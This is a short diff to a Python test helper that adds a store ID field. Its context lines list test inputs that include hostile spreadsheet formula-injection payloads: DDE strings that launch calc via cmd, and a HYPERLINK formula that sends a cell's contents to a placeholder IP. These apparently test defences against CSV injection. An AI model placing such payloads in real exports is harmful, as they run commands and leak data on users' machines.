@@ -27,6 +27,7 @@ FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\n=1+1", "\r=1", "|calc", "%0A=1",
     '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", '"=1"', ";=1", ",=1",
 )  # fmt: skip
+STORE_ID = "0" * 32
 HOSTILE = (*MARKUP, *ESCAPES, *FORMULAS)
 _FREE = (
     "owner", "purpose", "made_by", "deputy", "account", "scope_name", "environment", "notes", "provider_id", "label",
@@ -46,7 +47,9 @@ def number(n, **changes):
 def posture_of(documents, *, policy=None, facts=None, at=NOW, remarks=()):
     policy = policy or default_policy()
     around = Surroundings(documents, at, facts)
-    return Posture(at=at, assessments=[assess(policy, around)], surroundings=[around], remarks=remarks)
+    return Posture(
+        at=at, assessments=[assess(policy, around)], surroundings=[around], store_ids=[STORE_ID], remarks=remarks
+    )
 
 
 def hostile_posture():
